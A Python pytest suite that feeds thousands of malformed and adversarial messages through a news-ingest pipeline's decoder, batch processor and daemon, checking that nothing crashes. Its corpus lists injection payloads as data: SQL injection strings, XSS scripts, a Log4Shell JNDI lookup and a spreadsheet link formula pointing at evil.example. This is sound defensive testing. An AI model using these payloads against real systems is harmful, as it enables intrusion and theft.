"""Hostile input: >= 10,000 generated bad, odd and adversarial messages never stop the stream.

Two levels:

* unit: every message goes through `monitor.ingest.schemas.decode` (which must never raise and
  must give a Document or a Rejection with a reason) and then, in batches, through the
  real `BatchProcessor` with the keyword test double into SQLite and PostgreSQL: nothing
  raises, every message is stored or dead-lettered with a non-empty reason, and
  stored + already-stored (same id sent twice, the documented duplicate) + dead-lettered
  == sent; the minute counts equal a recount from the documents.
* integration: a few thousand of them, including several 10 MB messages, through the real
  `finsent run` process on the embedded broker and PostgreSQL: the daemon never dies,
  every message is stored or dead-lettered, offsets reach the end, and the daemon's peak
  resident memory (VmHWM) stays bounded.

The corpus is ours: hand-written cases per category (random bytes, invalid UTF-8, JSON
bombs, 10 MB texts, NaN/Infinity/far-future/ancient/garbage times, control, bidi and
zero-width characters, emoji and non-Latin scripts, SQL- and HTML-looking text, huge
numbers, duplicate keys, BOMs, NUL bytes, numeric ids, lists where strings belong) plus
hypothesis strategies (arbitrary bytes, arbitrary JSON objects over the contract's
fields, byte-level mutations of valid messages).

Cases this suite found breaking the contract (decode raising on lone surrogates, huge
integers and times at the ends of the calendar; the store raising on NUL, Infinity and
surrogates) are listed in `FOUND_BUGS`, are part of the corpus, and are also checked one
by one (`test_found_bugs_stay_fixed`).
"""

from __future__ import annotations

import json
import math
import random
import time
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from sqlalchemy import func, select

from monitor.app.batch import BatchProcessor
from monitor.classify.base import KeywordTestDouble
from monitor.config import Settings
from monitor.ingest.schemas import Document, Rejection, decode
from monitor.ingest.source import RawRecord
from monitor.store.repository import Store, recount, stored_counts
from monitor.store.schema import dead_letters, documents, make_engine
from tests.test_ingest import _reap_daemons  # noqa: F401  (autouse: kills daemons a failed test left running)

NOW = datetime(2026, 3, 2, 12, 0, tzinfo=UTC)  # the record time of every unit-level message
MiB = 1024 * 1024
TEN_MB = 10 * 1000 * 1000
BATCH = 500

# --- the hand-written corpus ---------------------------------------------------------------

BIDI = "\u202e\u202d\u202a\u202b\u202c\u2066\u2067\u2068\u2069\u200e\u200f\u061c"
ZERO_WIDTH = "\u200b\u200c\u200d\u2060\ufeff\u180e"
CONTROLS = "".join(chr(c) for c in range(1, 32)) + "\x7f\x85\u2028\u2029"
SCRIPTS = [
    "腾讯控股股价暴跌 12%，监管调查扩大",  # Chinese
    "أرامكو تعلن عن أرباح قياسية في الربع الثالث",  # Arabic
    "בנק הפועלים מדווח על הפסד",  # Hebrew
    "टाटा मोटर्स के शेयर में गिरावट",  # Devanagari
    "トヨタ株が急落、リコール拡大",  # Japanese
    "삼성전자 주가 급등",  # Korean
    "Сбербанк сообщил о снижении прибыли",  # Cyrillic
    "Z̷̛̗a̸̪͠l̵̰̈́g̶̲̈o̴̙͝ shares plunge",  # combining marks
]
EMOJI = ["📉📉📉 $TSLA crash 🚀", "👨‍👩‍👧‍👦🏳️‍🌈🇺🇸🇨🇳", "🤡" * 500, "💩\U0001f9ff\U0010fffd"]
SQLISH = [
    "'; DROP TABLE documents; --",
    '" OR 1=1 --',
    "1; SELECT pg_sleep(10); --",
    "Robert'); DROP TABLE students;--",
    "' UNION SELECT password FROM users --",
    "%' AND 1=0 UNION ALL SELECT NULL--",
    "\\'; TRUNCATE minute_counts; --",
]
HTMLISH = [
    "<script>alert(document.cookie)</script>",
    '<img src=x onerror="alert(1)">',
    "javascript:alert(1)",
    "<iframe src=//evil.example></iframe>",
    "{{7*7}} ${7*7} <%= 7*7 %>",
    "${jndi:ldap://evil.example/a}",
    "%s%s%s%n %x {0.__class__.__mro__}",
    '=HYPERLINK("http://evil.example","click")',
    "]]><!--<![CDATA[",
]
BAD_UTF8 = [
    b"\xc3\x28", b"\xa0\xa1", b"\xe2\x28\xa1", b"\xe2\x82\x28", b"\xf0\x28\x8c\xbc", b"\xf0\x90\x28\xbc",
    b"\xc0\xaf", b"\xe0\x80\xaf", b"\xed\xa0\x80", b"\xed\xbf\xbf", b"\xf4\x90\x80\x80", b"\xfe\xff", b"\xff",
]  # fmt: skip
TIMES: list[Any] = [
    "NaN", "Infinity", "-Infinity", "2999-01-01T00:00:00Z", "9999-12-31T23:59:59Z", "0001-01-01T00:00:00Z",
    "1969-12-31T23:59:59Z", "1989-12-31T23:59:59Z", "garbage", "now", "yesterday", "2024-13-45T99:99:99Z",
    "2024-05-01T13:45:00+25:00", "2024-02-30T00:00:00Z", "2024-05-01 13:45", "2024-05-01", "13:45",
    "\u0000", "  ", "2024-05-01T13:45:00Z" + "0" * 200, "١٢٣٤-٠٥-٠١", "２０２４-05-01T13:45:00Z",
    1714571100, 1714571100000, 1714571100.5, 0, -1, 1e20, -1e20, 2**63, -(2**63), 1e308, 5e-324,
    True, False, [], {}, ["2024-05-01T13:45:00Z"], {"t": "2024-05-01"}, 9.99e11, 1e11, 1e11 + 1,
]  # fmt: skip


def _j(obj: Any, **kw: Any) -> bytes:
    return json.dumps(obj, **kw).encode("utf-8")


def hand_written() -> list[bytes | None]:
    """Our corpus, a few thousand messages; ids are unique unless a case is about ids."""
    rng = random.Random(20261128)
    out: list[bytes | None] = [None, b"", b" ", b"\n", b"null", b"true", b"0", b'"text"', b"[]", b"{}"]
    # random bytes
    out += [rng.randbytes(rng.randint(1, 3000)) for _ in range(300)]
    out += [b"{" + rng.randbytes(rng.randint(1, 200)) + b"}" for _ in range(100)]
    # invalid UTF-8, alone and inside otherwise valid JSON
    for i, b in enumerate(BAD_UTF8):
        out += [
            b,
            b'{"text": "bad ' + b + b'", "id": "u8-' + str(i).encode() + b'"}',
            b'{"text": "x", "src' + b + b'": 1}',
        ]
    out += [_j({"text": "utf-16 inside"}).decode().encode("utf-16"), _j({"text": "utf-32"}).decode().encode("utf-32")]
    # JSON bombs: deep (arrays, objects, mixed, in every field) and wide
    for n in (31, 32, 33, 100, 1_000, 10_000, 100_000):
        out.append(b'{"text": "deep", "m": ' + b"[" * n + b"1" + b"]" * n + b"}")
        out.append(b'{"text": "deep", "m": ' + b'{"a":' * n + b"1" + b"}" * n + b"}")
        out.append(b"[" * n + b"]" * n)
        out.append(b"[" * n)  # unterminated
        out.append(b'{"text": ' + b"[" * n + b'"x"' + b"]" * n + b"}")
    out.append(_j({"text": "wide list", "m": list(range(200_000))}))
    out.append(_j({"text": "wide object", **{f"k{i}": i for i in range(50_000)}}))
    out.append(_j({"text": "wide strings", "m": ["a" * 10] * 100_000}))
    out.append(_j({"text": "x" * (2 * MiB - 20)}))  # just under the limit: stored
    out.append(_j({"text": "x" * (2 * MiB + 10)}))  # just over: dead-lettered
    out.append(_j({"text": "ten megabytes " + "y" * TEN_MB}))
    out.append(b" " * (3 * MiB))
    # timestamps, also as the only field that is wrong
    for i, t in enumerate(TIMES):
        out.append(_j({"id": f"time-{i}", "text": f"time case {i}", "published_at": t}, allow_nan=True))
    out += [b'{"text": "nan", "published_at": NaN}', b'{"text": "inf", "published_at": Infinity}',
            b'{"text": "ninf", "published_at": -Infinity}', b'{"text": "nan meta", "score": NaN}']  # fmt: skip
    # characters: control, bidi, zero-width, emoji, scripts, only-invisible text
    for i, ch in enumerate(CONTROLS + BIDI + ZERO_WIDTH):
        out.append(_j({"id": f"ch-{i}", "text": f"Acme{ch}shares plunge{ch}", "source": f"src{ch}", "title": f"t{ch}"}))
        out.append(_j({"id": f"only-{i}", "text": ch * 3}))
    out.append(_j({"text": "\u202eevil txt.exe", "url": "https://x.example/\u202e"}))
    for i, s in enumerate(SCRIPTS + EMOJI):
        out.append(_j({"id": f"sc-{i}", "text": s, "title": s, "source": s[:50], "tickers": ["TCEHY"]}))
        out.append(_j({"id": f"sc-a-{i}", "text": s}, ensure_ascii=False))
    # SQL- and HTML-looking values in every string field (also as ids: hashed, not rejected)
    for i, s in enumerate(SQLISH + HTMLISH):
        out.append(_j({"id": s, "text": s, "title": s, "source": s, "url": s, "lang": s[:16], "meta": s}))
        out.append(_j({"id": f"inj-{i}", "text": f"Acme {s}", s: s}))
        out.append(_j({"text": s, "kind": s}))
    # huge and odd numbers
    for i, n in enumerate([10**30, 10**100, 2**64, -(2**63), 10**4000, 1e308, -1e308, 5e-324, -0.0, 1.5]):
        out.append(_j({"id": n, "text": f"numeric id {i}"}))
        out.append(_j({"text": f"number meta {i}", "n": n}))
    out += [
        b'{"text": "exp", "n": 1e400}'.replace(b"1e400", b"1e300"),
        b'{"text": "long", "n": 0.' + b"1" * 5000 + b"}",
    ]
    # duplicate keys (last wins in Python's json) and same-id duplicates (first stored wins)
    out += [b'{"text": "a", "text": "b", "id": "dupkey-1"}', b'{"id": "dupkey-2", "id": "dupkey-3", "text": "x"}',
            b'{"text": 1, "text": "fine", "id": "dupkey-4"}', b'{"text": "fine", "text": 1, "id": "dupkey-5"}']  # fmt: skip
    out += [_j({"id": "same-id", "text": f"same id, version {k}"}) for k in range(5)]
    out += [_j({"text": "no id, same text and time", "published_at": "2026-03-02T11:00:00Z"}) for _ in range(3)]
    # BOMs and NUL bytes
    out += [b"\xef\xbb\xbf" + _j({"text": "utf-8 bom"}), _j({"text": "\ufeffbom inside", "id": "bom-1"}),
            b"\x00", b"\x00" * 100, b'{"text": "raw nul \x00 byte"}', _j({"text": "\u0000"}),
            _j({"id": "nul-1", "text": "nul \u0000 escape"}), _j({"id": "nul-2\u0000", "text": "nul in id"}),
            _j({"id": "nul-3", "text": "nul in meta", "m": "\u0000"}), _j({"id": "nul-5", "text": "x", "title": "a\u0000b"}),
            _j({"id": "nul-6", "text": "x", "url": "a\u0000b", "source": "\u0000s", "lang": "e\u0000n"}),
            b'{"text": "x", "id": "inf-1", "n": 1e999}', b'{"text": "x", "id": "inf-2", "n": [-1e999]}',
            b'{"text": "x", "id": "sur-meta", "m": "\\ud800", "\\udfff": 1}', _j({"text": "x", "id": "nul-4"}) + b"\x00"]  # fmt: skip
    # wrong types where strings (or lists) belong
    wrong: list[Any] = [["a"], {"a": 1}, 5, 5.5, True, None, [], [[["x"]]]]
    for i, w in enumerate(wrong):
        for f in ("text", "source", "url", "title", "lang", "kind", "tickers", "id", "published_at"):
            out.append(
                _j({"text": f"wrong type {i} {f}", f: w, "id": f"wt-{i}-{f}"} if f != "id" else {"text": "x", "id": w})
            )
    out += [_j({"text": "tickers", "tickers": t, "id": f"tk-{i}"}) for i, t in enumerate(
        ["AAPL", "AAPL,MSFT;  TSLA", "$$$", [""], ["$"], ["A" * 21], [str(k) for k in range(200)], ["aapl", "AAPL"],
         ["BRK.B", "^GSPC", "EURUSD=X", "BTC-USD", "NYSE:IBM"], ["<script>"], ["'; --"]]
    )]  # fmt: skip
    # not-quite JSON
    out += [b"{'text': 'single quotes'}", b'{text: "unquoted"}', b'{"text": "x",}', b'{"text": "x"} {"text": "y"}',
            b'{"text": "x"} garbage', b'/* c */ {"text": "x"}', b'{"text": "x" // c\n}', b'{"text": "\\x41"}',
            b'{"text": "\\u12"}', b'{"text": "unterminated', b'{"text": "tab\there"}', b"\x1f\x8b\x08\x00gzip"]  # fmt: skip
    # long fields and keys, lengths on both sides of the limits
    out += [_j({"text": "k", "k" * 100_000: 1}), _j({"text": "src", "source": "s" * 201}), _j({"text": "src", "source": "s" * 200}),
            _j({"text": "lang", "lang": "l" * 17}), _j({"text": "url", "url": "u" * 4097}), _j({"text": "id", "id": "i" * 65}),
            _j({"text": "id", "id": "i" * 64}), _j({"text": "id sp", "id": "has space"}), _j({"text": "kind", "kind": "NEWS"}),
            _j({"text": "kind", "kind": "blog"}), _j({"text": "t" * 100_000, "title": "T" * 100_000})]  # fmt: skip
    # valid-looking traffic mixed in, so the totals are not all one kind
    for i in range(1500):
        body = {"id": f"ok-{i}", "text": f"Acme {rng.choice(['plunge', 'beats', 'holds', 'lawsuit'])} story {i}",
                "published_at": (NOW - timedelta(minutes=rng.randint(0, 600))).isoformat(), "tickers": ["ACME"]}  # fmt: skip
        out.append(_j(body))
    return out


def combinations(n: int, seed: int = 11) -> list[bytes]:
    """Messages whose every field is drawn from the hostile pools above (seeded)."""
    rng = random.Random(seed)
    odd = [*SCRIPTS, *EMOJI, *SQLISH, *HTMLISH, BIDI, ZERO_WIDTH, CONTROLS, "x" * 5000, "Acme shares plunge", " "]
    pools: dict[str, list[Any]] = {
        "text": [*odd, *(f"{s} plunge" for s in odd), 5, None, ["a"], {"t": "x"}],
        "id": [*odd, *(10**k for k in (0, 5, 20, 70)), -1, 1.5, True, None, "", [], {}],
        "published_at": [*TIMES, *(str(NOW - timedelta(minutes=k)) for k in (0, 1, 59, 600, 10**6)), None, ""],
        "source": [*odd, 1, [], None],
        "url": [*odd, "https://news.example/a?token=abc", 1, None],
        "title": [*odd, {}, None],
        "lang": ["en", "zh-Hant", "x" * 17, "", None, 3],
        "kind": ["news", "comment", "NEWS", "blog", "", None, ["news"]],
        "tickers": [["AAPL"], "AAPL;MSFT", ["$$$"], [""], [1], None, ["A" * 21], [[]], list("ABCDEFGHIJ")],
    }
    out = []
    for i in range(n):
        obj: dict[str, Any] = {
            f: rng.choice(p) for f, p in pools.items() if rng.random() < (0.95 if f == "text" else 0.6)
        }
        if rng.random() < 0.3:
            obj[rng.choice(odd)[:40]] = rng.choice([*odd, 1e308, -(10**300), [None] * 5, {"a": {"b": []}}])
        if "id" in obj and isinstance(obj["id"], str) and rng.random() < 0.5:
            obj["id"] = f"{obj['id']}-{i}"
        out.append(json.dumps(obj, ensure_ascii=rng.random() < 0.5).encode("utf-8"))
    return out


# Cases this suite found breaking the contract (decode raised, or the store raised and the
# daemon would have retried or crashed forever); fixed in monitor/schemas.py and
# monitor/pipeline.py, kept here as regressions and part of the corpus.
FOUND_BUGS: list[tuple[str, bytes, str]] = [
    (
        "decode",
        b'{"text": "lone \\ud800 surrogate"}',
        "UnicodeEncodeError in stable_id: text with a lone surrogate escape",
    ),
    ("decode", b'{"text": "x", "source": "\\udfff"}', "UnicodeEncodeError in stable_id: source with a lone surrogate"),
    ("decode", b'{"text": "x", "n": ' + b"9" * 5000 + b"}", "ValueError: int with > 4300 digits (int_max_str_digits)"),
    (
        "decode",
        b'{"text": "x", "published_at": "9999-12-31T23:59:59-23:59"}',
        "OverflowError in astimezone near datetime.max",
    ),
    (
        "decode",
        b'{"text": "x", "published_at": "0001-01-01T00:00:00+14:00"}',
        "OverflowError in astimezone near datetime.min",
    ),
    (
        "store",
        b'{"text": "x", "id": "kb-sur-title", "title": "\\ud800"}',
        "lone surrogate in title cannot be encoded by the driver",
    ),
    (
        "store",
        b'{"text": "x", "id": "kb-sur-url", "url": "\\udc00"}',
        "lone surrogate in url: UnicodeEncodeError escapes the store",
    ),
]


# --- hypothesis strategies -----------------------------------------------------------------

# Datetimes stay away from the ends of the calendar and optional strings carry no NUL,
# so that the generated share is mostly storable; FOUND_BUGS covers those edges.
_any_text = st.text(max_size=120)
_field_text = st.text(alphabet=st.characters(blacklist_characters="\x00", blacklist_categories=("Cs",)), max_size=80)
_scalar = st.one_of(st.none(), st.booleans(), st.integers(), st.floats(allow_nan=True, allow_infinity=True), _any_text)
_json_value = st.recursive(
    _scalar, lambda c: st.lists(c, max_size=3) | st.dictionaries(_any_text, c, max_size=3), max_leaves=6
)
_times = st.one_of(
    st.datetimes(min_value=datetime(1900, 1, 1), max_value=datetime(2200, 1, 1), timezones=st.timezones()).map(
        lambda d: d.isoformat()
    ),
    st.datetimes(min_value=datetime(1900, 1, 1), max_value=datetime(2200, 1, 1)).map(lambda d: d.isoformat()),
    st.integers(-(10**15), 10**15),
    st.floats(),
    _any_text,
    _json_value,
)
_maybe = lambda s: st.one_of(s, _json_value)  # noqa: E731  (right type, or anything at all)
_good_text = _any_text.map(lambda t: t + " plunge")
_objects = st.fixed_dictionaries(
    {"text": st.one_of(_good_text, _good_text, _good_text, _any_text, _json_value)},
    optional={
        "id": st.one_of(st.integers(), _field_text, _json_value),
        "published_at": _times,
        "source": _maybe(_field_text),
        "url": _maybe(_field_text),
        "title": _maybe(_field_text),
        "lang": _maybe(_field_text),
        "kind": st.one_of(st.sampled_from(["news", "comment", "NEWS", " Comment "]), _maybe(_field_text)),
        "tickers": st.one_of(st.lists(_field_text, max_size=5), _maybe(_field_text)),
    },
)
_with_extra = st.builds(lambda d, extra: {**extra, **d}, _objects, st.dictionaries(_any_text, _json_value, max_size=2))


def _dump(obj: dict[str, Any], ascii_: bool) -> bytes:
    return json.dumps(obj, ensure_ascii=ascii_, allow_nan=True).encode("utf-8", "surrogatepass")


def _mutate(base: bytes, pos: int, junk: bytes, mode: int) -> bytes:
    p = pos % (len(base) + 1)
    return [base[:p] + junk + base[p:], base[:p] + base[p + len(junk) :], base[:p] + junk + base[p + len(junk) :]][mode]


_VALID = _j({"id": "m", "text": "Acme shares plunge", "published_at": "2026-03-02T11:00:00Z", "tickers": ["ACME"]})
_messages = st.one_of(
    st.binary(max_size=400),
    st.builds(_dump, _with_extra, st.booleans()),
    st.builds(_mutate, st.just(_VALID), st.integers(0, 10**6), st.binary(min_size=1, max_size=6), st.integers(0, 2)),
    st.builds(lambda v: _j(v, allow_nan=True), _json_value),
)
HYPOTHESIS_EXAMPLES = 2_200
COMBINATIONS = 6_000

_CORPUS: list[bytes | None] = []


def _decode(raw: bytes | None, offset: int, **kw: Any) -> Document | Rejection:
    return decode(raw, topic="hostile", partition=offset % 3, offset=offset, record_time=NOW, **kw)


def corpus() -> list[bytes | None]:
    """Hand-written + hypothesis-generated, built once per session (deterministic)."""
    if _CORPUS:
        return _CORPUS
    generated: list[bytes] = []

    @given(_messages)
    @settings(max_examples=HYPOTHESIS_EXAMPLES, database=None, derandomize=True, deadline=None,
              suppress_health_check=list(HealthCheck))  # fmt: skip
    def collect(raw: bytes) -> None:
        out = _decode(raw, 0)  # must not raise: hypothesis reports the smallest failing input
        assert isinstance(out, Document | Rejection)
        generated.append(raw)

    collect()
    _CORPUS.extend(hand_written() + [raw for _, raw, _ in FOUND_BUGS] + combinations(COMBINATIONS) + generated)
    return _CORPUS


# --- unit level ------------------------------------------------------------------------------


def _check_outcome(raw: bytes | None, out: Document | Rejection) -> None:
    assert isinstance(out, Document | Rejection), type(out)
    if isinstance(out, Rejection):
        assert out.reason and out.reason.strip(), raw
        assert out.raw == (raw or b"")
    else:
        assert out.text and out.text == out.text.strip() and "\x00" not in out.text
        assert out.id and len(out.id) <= 64
        assert out.published_at.tzinfo is not None and out.published_at.year >= 1990
        assert out.published_at <= NOW + timedelta(days=1)


def test_decode_never_raises_on_the_corpus() -> None:
    msgs = corpus()
    assert len(msgs) >= 10_000
    kinds = {"document": 0, "rejection": 0}
    for i, raw in enumerate(msgs):
        out = _decode(raw, i)
        _check_outcome(raw, out)
        kinds["document" if isinstance(out, Document) else "rejection"] += 1
    assert kinds["document"] > 1000 and kinds["rejection"] > 1000, kinds
    print(f"\nhostile decode: {len(msgs)} messages -> {kinds['document']} documents, {kinds['rejection']} rejections")


def test_oversized_messages_rejected_by_size_before_parsing() -> None:
    big = _j({"text": "z" * TEN_MB})
    t = time.perf_counter()
    out = _decode(big, 0)
    assert isinstance(out, Rejection) and "max_message_bytes" in out.reason and f"{len(big):,}" in out.reason
    assert time.perf_counter() - t < 0.5
    ok = _decode(big, 1, max_bytes=16 * MiB)
    assert isinstance(ok, Document) and len(ok.text) == TEN_MB


def test_corpus_through_batch_processor_adds_up(db_url: str) -> None:
    """Every message stored or dead-lettered with a reason; the totals add up on both databases."""
    from monitor.store.migrate import upgrade

    upgrade(db_url)
    engine = make_engine(db_url)
    s = Settings(database_url=db_url, model="test-double")  # type: ignore[call-arg]
    bp = BatchProcessor(s, KeywordTestDouble(), Store(engine))
    msgs = corpus()
    inserted = dups = dead = 0
    expect_ids: set[str] = set()
    expect_dead = 0
    same_id = 0
    t0 = time.perf_counter()
    for start in range(0, len(msgs), BATCH):
        chunk = msgs[start : start + BATCH]
        recs = [RawRecord(v, "hostile", (start + k) % 3, start + k, NOW) for k, v in enumerate(chunk)]
        for r in recs:  # the reference: decode alone
            out = _decode(r.value, r.offset)
            if isinstance(out, Document):
                same_id += out.id in expect_ids
                expect_ids.add(out.id)
            else:
                expect_dead += 1
        res = bp.process(recs, NOW)
        assert res.inserted + res.duplicates + len(res.rejections) == len(chunk)
        assert all(r.reason.strip() for r in res.rejections)
        inserted, dups, dead = inserted + res.inserted, dups + res.duplicates, dead + res.dead_letters
    elapsed = time.perf_counter() - t0
    with engine.connect() as c:
        n_docs = c.execute(select(func.count()).select_from(documents)).scalar_one()
        reasons = [r[0] for r in c.execute(select(dead_letters.c.reason))]
        assert stored_counts(c) == recount(c)
    engine.dispose()
    backend = db_url.split(":", 1)[0]
    print(
        f"\nhostile unit [{backend}]: sent {len(msgs)}, stored {inserted}, same-id duplicates {dups}, "
        f"dead-lettered {dead} (refused by the database: {dead - expect_dead}), in {elapsed:.1f}s"
    )
    assert inserted + dups + dead == len(msgs)
    # Records the database refuses (e.g. Infinity in metadata on PostgreSQL) are isolated
    # by the store and dead-lettered too, with the database's reason.
    refused = dead - expect_dead
    assert 0 <= refused <= 10 and (refused == 0 or backend.startswith("postgresql"))
    assert inserted == n_docs == len(expect_ids) - refused
    assert dups == same_id
    assert dead == len(reasons) and all(r and r.strip() for r in reasons)


@pytest.mark.parametrize(("stage", "raw", "why"), FOUND_BUGS, ids=[f"{k[0]}-{i}" for i, k in enumerate(FOUND_BUGS)])
def test_found_bugs_stay_fixed(stage: str, raw: bytes, why: str, request: pytest.FixtureRequest) -> None:
    out = _decode(raw, 0)
    _check_outcome(raw, out)
    if stage == "store":
        url = request.getfixturevalue("pg_url")
        from monitor.store.migrate import upgrade

        upgrade(url)
        engine = make_engine(url)
        try:
            s = Settings(database_url=url, model="test-double")  # type: ignore[call-arg]
            res = BatchProcessor(s, KeywordTestDouble(), Store(engine)).process(
                [RawRecord(raw, "hostile", 0, 0, NOW)], NOW
            )
            assert res.inserted + res.dead_letters == 1, why
        finally:
            engine.dispose()


# --- integration: the real daemon ------------------------------------------------------------

DAEMON_MESSAGES = 2_000
BIG_MESSAGES = 3
RSS_LIMIT_MB = 1_500


def _vm_hwm_mb(pid: int) -> float:
    for line in Path(f"/proc/{pid}/status").read_text().splitlines():
        if line.startswith("VmHWM:"):
            return int(line.split()[1]) / 1024
    return math.nan


def _pick_for_daemon(msgs: list[bytes | None], n: int) -> list[bytes | None]:
    """A spread of the corpus that fits the broker (no value over 4 MB) plus every category."""
    small = [m for m in msgs if m is None or len(m) < 3_900_000]
    rng = random.Random(3)
    head = small[:1200]  # the hand-written categories come first
    return head + rng.sample(small[1200:], n - len(head))


@pytest.mark.integration
def test_daemon_survives_hostile_stream(broker: Any, pg_url: str, tmp_path: Path) -> None:
    from kafka import KafkaProducer

    from monitor.app.broker import create_topics
    from monitor.store.migrate import upgrade
    from tests.test_ingest import DaemonProc, committed_to_end, counts, daemon_env, produce, wait_for

    upgrade(pg_url)
    topic = f"hostile{int(time.time() * 1000) % 10**8}"
    create_topics(broker.bootstrap, [topic, f"{topic}.dlq"], partitions=3)
    group = f"g-{topic}"
    picked = _pick_for_daemon(corpus(), DAEMON_MESSAGES)
    ts_ms = int(NOW.timestamp() * 1000)
    record_time = datetime.fromtimestamp(ts_ms / 1000, UTC)
    # A batch holding several 10 MB records can take longer than the default 10 s poll
    # interval on a loaded 2-core machine; the consumer is then dropped from the group, its
    # commit is refused and the batch replays again and again (seen here at load 6). That
    # livelock is reported separately; this test is about bad input, so it allows 2 minutes.
    env = daemon_env(pg_url, broker.bootstrap, topic, group, FINSENT_BATCH_MAX_RECORDS="100",
                     FINSENT_MAX_POLL_INTERVAL_MS="120000")  # fmt: skip
    d = DaemonProc(env, tmp_path / "d.log")
    d.start()
    # A null value (tombstone) needs a key to be sent at all.
    produce(broker.bootstrap, topic, [(m, None if m is not None else b"tombstone", ts_ms) for m in picked])  # type: ignore[misc]
    # Several 10 MB messages: over the 2 MiB default, so each must be dead-lettered with its size.
    big = [_j({"id": f"big-{i}", "text": f"big {i} " + chr(0x41 + i) * TEN_MB}) for i in range(BIG_MESSAGES)]
    p = KafkaProducer(bootstrap_servers=broker.bootstrap, acks="all", max_request_size=32 * MiB)
    for i, v in enumerate(big):
        p.send(topic, value=v, timestamp_ms=ts_ms, partition=i % 3)
    p.flush(120)
    p.close()
    sent = picked + big

    expect_ids: set[str] = set()
    expect_dead = 0
    for i, raw in enumerate(sent):
        out = decode(raw, topic=topic, partition=0, offset=i, record_time=record_time)
        if isinstance(out, Document):
            expect_ids.add(out.id)
        else:
            expect_dead += 1
    hwm = 0.0

    def done() -> bool:
        nonlocal hwm
        assert d.alive(), "the daemon died:\n" + d.log_path.read_text(errors="replace")[-3000:]
        assert d.proc is not None
        hwm = max(hwm, _vm_hwm_mb(d.proc.pid))
        n_docs, n_dead = counts(pg_url)
        return n_docs + n_dead == len(expect_ids) + expect_dead and n_dead >= expect_dead

    t0 = time.monotonic()
    wait_for(done, 240, f"{len(expect_ids) + expect_dead} documents + dead letters", [d])
    wait_for(lambda: committed_to_end(broker.bootstrap, topic, group), 90, "offsets committed to the end", [d])
    assert d.proc is not None
    hwm = max(hwm, _vm_hwm_mb(d.proc.pid))
    assert d.terminate() == 0
    elapsed = time.monotonic() - t0
    engine = make_engine(pg_url)
    with engine.connect() as c:
        reasons = {r[0] for r in c.execute(select(dead_letters.c.reason))}
        big_reasons = [
            r[0]
            for r in c.execute(select(dead_letters.c.reason).where(dead_letters.c.reason.like("%max_message_bytes%")))
        ]
        assert stored_counts(c) == recount(c)
    engine.dispose()
    n_docs, n_dead = counts(pg_url)
    assert all(r.strip() for r in reasons)
    assert len(big_reasons) >= BIG_MESSAGES
    print(
        f"\nhostile daemon: sent {len(sent)} ({BIG_MESSAGES} x 10 MB), stored {n_docs}, "
        f"same-id duplicates {len(sent) - len(expect_ids) - expect_dead}, dead-lettered {n_dead} "
        f"(refused by the database: {n_dead - expect_dead}), lost {len(expect_ids) + expect_dead - n_docs - n_dead}, "
        f"in {elapsed:.0f}s; daemon peak RSS (VmHWM) {hwm:.0f} MB"
    )
    assert hwm < RSS_LIMIT_MB, f"daemon peak RSS {hwm:.0f} MB"
